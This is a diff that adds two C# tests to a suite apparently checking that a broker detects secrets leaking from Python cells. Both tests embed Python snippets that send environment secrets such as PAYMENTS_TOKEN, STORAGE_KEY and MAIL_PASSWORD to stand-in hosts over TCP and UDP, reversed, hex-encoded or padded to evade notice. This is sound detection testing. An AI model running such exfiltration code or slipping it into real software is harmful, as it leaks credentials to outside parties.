@@ -114,6 +114,42 @@ public sealed class SecretFlowTests(BrokerHost broker) : IClassFixture<BrokerHos
     }
 
     [Fact]
+    public async Task What_a_later_cell_says_through_an_earlier_ones_connection_is_its_own()
+    {
+        await using var session = await SessionClient.OpenAsync(broker.Host, "python", new { profile = BrokerHost.Hole });
+        var first = await session.RunAsync("import os, socket\ns = socket.create_connection(('192.0.2.7', 9000))\ns.sendall(b'hello')", stop: TestContext.Current.CancellationToken);
+
+        var second = await session.RunAsync("s.sendall(os.environ['PAYMENTS_TOKEN'][::-1].encode())", env: Environment, stop: TestContext.Current.CancellationToken);
+        var third = await session.RunAsync("print('done')", stop: TestContext.Current.CancellationToken);
+
+        Assert.Equal("reversed", Assert.Single(await SeenAsync(second)).Text("encoding"));
+        Assert.Equal(["IG6005"], RulesOf(second));
+        Assert.NotNull(second.IncidentId);
+        Assert.Empty(RulesOf(first).Concat(RulesOf(third)));
+        Assert.Equal("5", Assert.Single(await Flows.AtAsync(broker.Host, first, "first_bytes")).Text("bytes_up"));
+    }
+
+    [Fact]
+    public async Task A_cell_that_ends_at_once_has_said_what_it_said()
+    {
+        await using var session = await SessionClient.OpenAsync(broker.Host, "python", new { profile = BrokerHost.Hole });
+        await session.RunAsync("import os, socket\nstream = socket.create_connection(('192.0.2.8', 4001))", env: Environment, stop: TestContext.Current.CancellationToken);
+
+        for (var port = 4000; port < 4005; port++)
+        {
+            var datagram = await session.RunAsync($"""
+                datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+                datagrams.connect(("192.0.2.8", {port}))
+                _ = datagrams.send(os.environ["STORAGE_KEY"].encode().hex().encode())
+                """, stop: TestContext.Current.CancellationToken);
+            Assert.Single(await SeenAsync(datagram));
+        }
+
+        var sent = await session.RunAsync("stream.sendall(b'x' * 200_000 + os.environ['MAIL_PASSWORD'][::-1].encode())", stop: TestContext.Current.CancellationToken);
+        Assert.Single(await SeenAsync(sent));
+    }
+
+    [Fact]
     public async Task A_datagram_is_looked_at_as_well()
     {
         var answer = await RunAsync(BrokerHost.Hole, """
